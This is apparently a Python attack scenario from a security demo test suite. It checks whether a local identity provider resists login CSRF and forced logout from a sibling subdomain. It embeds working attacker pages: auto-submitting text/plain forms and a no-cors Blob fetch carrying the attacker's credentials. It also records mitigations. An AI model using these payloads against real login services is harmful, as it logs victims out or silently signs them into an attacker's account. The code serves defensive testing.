"""Login CSRF and forced logout from a sibling subdomain.

Threat: while logged in, the victim opens the attacker's page on `evil.authgate.localhost` --
another origin, but the *same site*, so the IdP's SameSite=Lax cookies go along with its
requests and cookies in its responses are stored. The page sends what needs no CORS preflight:
1. forced logout: a field-less `enctype=text/plain` form to the IdP's `POST /api/logout`, and a
   form to `POST /oauth2/logout`;
2. login CSRF: `fetch(idp + '/api/login', {mode: 'no-cors', credentials: 'include', body: new
   Blob([json])})` with the *attacker's* credentials (a Blob has no Content-Type), and the hosted
   login form posted with them to `/oauth2/authorize`.
If the IdP takes them, the victim is logged out, or -- worse -- silently logged in as the
attacker: the Store's next refresh (native) or the next SSO login (redirect modes) comes back as
mallory, and whatever the victim then types or buys lands in the attacker's account.
What stops it: JSON endpoints that set or read the IdP's cookies require `Content-Type:
application/json` (which forces a CORS preflight only registered origins pass), a non-empty body,
and an allowed `Origin` (web/cross_site.py); the hosted forms need their SameSite=Strict CSRF
token and `Sec-Fetch-Site: same-origin`; `/oauth2/logout` without an id_token_hint asks first.
"""
from __future__ import annotations

import asyncio
import json

from authgate_demo.attacks.matrix import Cell, blocked, succeeded
from authgate_demo.attacks.scenarios import NATIVE, claims_of, describe, short
from authgate_demo.stack import STORE_ID

ID = "11-cross-site-login-logout"
TITLE = "Login CSRF and forced logout from a sibling subdomain (no-cors Blob fetch, text/plain form)"

MALLORY, MALLORY_PASSWORD = "mallory@example.com", "mallory-Correct-Horse-42"

LOGOUT_PAGE = """<!doctype html><title>Cute cats</title><h1>Cute cats</h1>
<form id="f1" method="POST" action=API_LOGOUT enctype="text/plain" target="s1"></form><iframe name="s1"></iframe>
<form id="f2" method="POST" action=OAUTH_LOGOUT target="s2"><input type="hidden" name="client_id" value=CLIENT></form>
<iframe name="s2"></iframe>
<script>
document.getElementById('f1').submit();
document.getElementById('f2').submit();
setTimeout(function () { fetch(SINK, {method: 'POST', mode: 'no-cors', body: 'sent'}); }, 800);
</script>"""

LOGIN_PAGE = """<!doctype html><title>Cute cats</title><h1>More cute cats</h1>
<form id="f3" method="POST" action=AUTHORIZE target="s3">FIELDS</form><iframe name="s3"></iframe>
<script>
fetch(API_LOGIN, {method: 'POST', mode: 'no-cors', credentials: 'include', body: new Blob([BODY])})
  .catch(function () {})
  .then(function () { document.getElementById('f3').submit(); })
  .then(function () { setTimeout(function () { fetch(SINK, {method: 'POST', mode: 'no-cors', body: 'sent'}); }, 800); });
</script>"""


def applies(mode: str) -> str | None:
    return None  # every mode holds an IdP session in the browser: the refresh cookie (native) or SSO


async def _mallory(ctx) -> None:  # type: ignore[no-untyped-def]
    r = await ctx.attack("POST", "idp", "/api/user/registration", headers={"Authorization": ctx.stack.api_key},
                         json={"user": {"email": MALLORY, "password": MALLORY_PASSWORD},
                               "registration": {"applicationId": STORE_ID}, "skipVerification": True})
    proof = await ctx.attack("POST", "idp", "/api/login", json={"loginId": MALLORY, "password": MALLORY_PASSWORD,
                                                                 "applicationId": STORE_ID})
    if proof.status_code != 200:  # the attack must not look blocked because mallory could not log in at all
        raise RuntimeError(f"the attacker's account does not work: {describe(r)}; {describe(proof)}")


def _fill(html: str, **values: str) -> str:
    for name, value in values.items():
        html = html.replace(name, value)
    return html


async def _visit(ctx, page, tag: str, html: str) -> None:  # type: ignore[no-untyped-def]
    evil = await page.context.new_page()
    await evil.goto(ctx.sink.add_page(tag, html))
    await ctx.sink.wait_for(tag, timeout=8)
    await asyncio.sleep(0.5)  # let the last form POST land
    await evil.close()


def _who(cookies: dict[str, str]) -> str:
    token = cookies.get("access_token")
    try:
        return str(claims_of(token).get("email")) if token else "nobody"
    except ValueError:
        return "unreadable"


async def _sso_alive(ctx, jar: dict[str, str]) -> bool:  # type: ignore[no-untyped-def]
    """Do the browser's SSO cookies still name a live session? (prompt=none answers with a code or token.)"""
    sso = {k: v for k, v in jar.items() if k in ("fusionauth.sso", "fusionauth.browser")}
    if "fusionauth.sso" not in sso:
        return False
    params = {"client_id": STORE_ID, "redirect_uri": ctx.url("store") + "/oauth-redirect", "prompt": "none",
              "response_type": "token" if ctx.mode.startswith("implicit") else "code", "scope": "openid",
              "state": "probe", "nonce": "probe", "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
              "code_challenge_method": "S256"}
    r = await ctx.attack("GET", "idp", "/oauth2/authorize", params=params, cookies=sso)
    location = r.headers.get("location", "")
    return r.status_code in (302, 303) and "error=" not in location


async def run(ctx) -> Cell:  # type: ignore[no-untyped-def]
    await _mallory(ctx)
    page = await ctx.victim()
    native = ctx.mode == NATIVE
    name = "refresh_token" if native else "fusionauth.sso"
    before = await ctx.cookies(page.context, "idp")
    if not before.get(name):
        raise RuntimeError(f"the victim has no {name} cookie after logging in")
    evidence = [f"victim logged in; IdP {name} cookie {short(before[name])}"]
    idp, tag = ctx.url("idp"), f"{ID}-{ctx.mode}"

    # 1. Forced logout.
    await _visit(ctx, page, tag + "-logout", _fill(
        LOGOUT_PAGE, API_LOGOUT=json.dumps(idp + "/api/logout"), OAUTH_LOGOUT=json.dumps(idp + "/oauth2/logout"),
        CLIENT=json.dumps(STORE_ID), SINK=json.dumps(ctx.sink.collect_url(tag + "-logout"))))
    middle = await ctx.cookies(page.context, "idp")
    logged_out = middle.get(name) != before[name] or (not native and not await _sso_alive(ctx, middle))
    evidence.append(f"after the attacker's logout page: {name} cookie "
                    + ("unchanged" if middle.get(name) == before[name] else f"now {short(middle.get(name) or 'gone')}")
                    + ("" if native else f", SSO session alive: {not logged_out}"))
    r = await ctx.attack("POST", "idp", "/api/logout", content=b"", cookies={name: before[name]},
                         headers={"Content-Type": "text/plain", "Origin": ctx.sink.origin})
    evidence.append(f"the same text/plain logout replayed with the victim's cookie: {describe(r)}")

    # 2. Login CSRF with the attacker's credentials.
    body = json.dumps({"loginId": MALLORY, "password": MALLORY_PASSWORD, "applicationId": STORE_ID})
    fields = {"client_id": STORE_ID, "redirect_uri": ctx.url("store") + "/oauth-redirect",
              "response_type": "token" if ctx.mode.startswith("implicit") else "code", "scope": "openid",
              "state": "x", "nonce": "x", "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
              "code_challenge_method": "S256", "loginId": MALLORY, "password": MALLORY_PASSWORD}
    hidden = "".join(f'<input type="hidden" name="{k}" value="{v}">' for k, v in fields.items())
    await _visit(ctx, page, tag + "-login", _fill(
        LOGIN_PAGE, API_LOGIN=json.dumps(idp + "/api/login"), AUTHORIZE=json.dumps(idp + "/oauth2/authorize"),
        FIELDS=hidden, BODY=json.dumps(body), SINK=json.dumps(ctx.sink.collect_url(tag + "-login"))))
    after = await ctx.cookies(page.context, "idp")
    swapped = after.get(name) not in (None, middle.get(name)) or _who(after) == MALLORY
    evidence.append(f"after the attacker's login page: {name} cookie "
                    + ("unchanged" if after.get(name) == middle.get(name) else f"now {short(after.get(name) or 'gone')}")
                    + f"; the IdP's access_token cookie is for {_who(after)}")
    r = await ctx.attack("POST", "idp", "/api/login", content=body.encode(), headers={"Origin": ctx.sink.origin})
    evidence.append(f"the same untyped (Blob) login replayed: {describe(r)}")
    if native:
        await page.context.clear_cookies(name="app_jwt")  # the Store's JWT expires: the SPA refreshes at the IdP
        await page.click("#reload-button")
        await asyncio.sleep(1.5)
        line = await page.locator("#user-line").inner_text()
        evidence.append(f"the Store after its next refresh shows: {line!r}")
        swapped = swapped or MALLORY in line

    if swapped:
        return succeeded(stolen="the victim's session: the browser is now logged in as the attacker",
                         usable_for="until the victim notices (everything they enter goes to mallory's account)",
                         mitigation="require application/json and an allowed Origin on cookie-setting JSON endpoints",
                         evidence=evidence)
    if logged_out:
        return succeeded(stolen="nothing: the victim was logged out by another site", usable_for="at will",
                         mitigation="require application/json, a body and an allowed Origin on /api/logout",
                         evidence=evidence)
    return blocked("JSON endpoints that touch the IdP's cookies need Content-Type: application/json, a body and an "
                   "allowed Origin; the hosted forms need their CSRF token; /oauth2/logout asks first", evidence)
